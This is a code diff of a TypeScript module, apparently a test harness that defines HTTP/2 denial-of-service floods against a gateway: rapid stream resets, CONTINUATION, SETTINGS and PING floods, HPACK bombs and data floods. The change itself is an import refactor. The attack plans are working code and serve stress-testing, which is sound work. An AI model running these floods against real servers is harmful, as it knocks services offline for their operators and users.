@@ -1,19 +1,6 @@
 // HTTP/2 floods: streams reset at once, and frames that cost the gateway more than their sender.
 
-import {
-  CONTINUATION,
-  data,
-  END_HEADERS,
-  END_STREAM,
-  frame,
-  HEADERS,
-  openStream,
-  openStreamInParts,
-  PREFACE,
-  ping,
-  resetStream,
-  settings,
-} from "../frames.ts";
+import * as h2 from "../frames.ts";
 import { type AttackPlan, forEachIndex, openSocket, writeAll } from "./attack.ts";
 import { framesOf, get, LOGIN, LOGIN_BODY } from "./requests.ts";
 
@@ -52,7 +39,7 @@ function flood({ count: fullCount, size, unit, opening = Buffer.alloc(0), reads 
           if (socket === undefined) continue;
           if (reads) socket.resume();
           else socket.pause();
-          await writeAll(socket, Buffer.concat([PREFACE, settings(), opening]));
+          await writeAll(socket, Buffer.concat([h2.PREFACE, h2.settings(), opening]));
           for (let units = 0; units < UNITS_OF_CONNECTION && sent < count && !socket.destroyed; units += size) {
             sent += size;
             // The gateway may read no more.
@@ -83,18 +70,21 @@ const NEWEST = 0xbe;
 
 function bomb(unit: number): Buffer {
   const block = Buffer.concat([unit === 0 ? ENTRY : ENTRY.subarray(0, 3), Buffer.alloc(PAGE - 400, NEWEST)]);
-  return frame(HEADERS, END_STREAM | END_HEADERS, streamOf(unit), block);
+  return h2.frame(h2.HEADERS, h2.END_STREAM | h2.END_HEADERS, streamOf(unit), block);
 }
 
 function resetAtOnce(unit: number): Buffer {
   const stream = streamOf(unit);
-  return Buffer.concat([framesOf(stream, unit % 2 === 0 ? LOGIN : get("/openapi.json")), resetStream(stream)]);
+  return Buffer.concat([framesOf(stream, unit % 2 === 0 ? LOGIN : get("/openapi.json")), h2.resetStream(stream)]);
 }
 
 /** More bytes than a login may have, within the flow-control window. */
 function pageOf(unit: number): Buffer {
   const stream = streamOf(unit);
-  return Buffer.concat([openStream(stream, LOGIN.headers, false), data(stream, Buffer.alloc(PAGE, LOGIN_BODY), false)]);
+  return Buffer.concat([
+    h2.openStream(stream, LOGIN.headers, false),
+    h2.data(stream, Buffer.alloc(PAGE, LOGIN_BODY), false),
+  ]);
 }
 
 /** By attack; the count is of streams or frames. */
@@ -103,19 +93,19 @@ export const FLOODS: Readonly<Record<string, AttackPlan>> = {
   "continuation-flood": flood({
     count: 100_000,
     size: 50,
-    opening: openStreamInParts(1, get("/auth/time").headers)[0],
-    unit: (index) => frame(CONTINUATION, 0, 1, Buffer.alloc(index % 2 === 0 ? 1024 : 0, NEWEST)),
+    opening: h2.openStreamInParts(1, get("/auth/time").headers)[0],
+    unit: (index) => h2.frame(h2.CONTINUATION, 0, 1, Buffer.alloc(index % 2 === 0 ? 1024 : 0, NEWEST)),
   }),
-  "settings-flood": flood({ count: 200_000, size: 500, unit: () => settings(65_535) }),
-  "settings-flood-unread": flood({ count: 200_000, size: 500, reads: false, unit: () => settings(1) }),
-  "ping-flood": flood({ count: 200_000, size: 500, unit: ping }),
-  "ping-flood-unread": flood({ count: 200_000, size: 500, reads: false, unit: ping }),
+  "settings-flood": flood({ count: 200_000, size: 500, unit: () => h2.settings(65_535) }),
+  "settings-flood-unread": flood({ count: 200_000, size: 500, reads: false, unit: () => h2.settings(1) }),
+  "ping-flood": flood({ count: 200_000, size: 500, unit: h2.ping }),
+  "ping-flood-unread": flood({ count: 200_000, size: 500, reads: false, unit: h2.ping }),
   "hpack-bombs": flood({ count: 10_000, size: 10, unit: bomb }),
   "empty-data": flood({
     count: 200_000,
     size: 500,
-    opening: openStream(1, LOGIN.headers, false),
-    unit: () => data(1, Buffer.alloc(0), false),
+    opening: h2.openStream(1, LOGIN.headers, false),
+    unit: () => h2.data(1, Buffer.alloc(0), false),
   }),
   "data-flood": flood({ count: 20_000, size: 4, unit: pageOf }),
 };
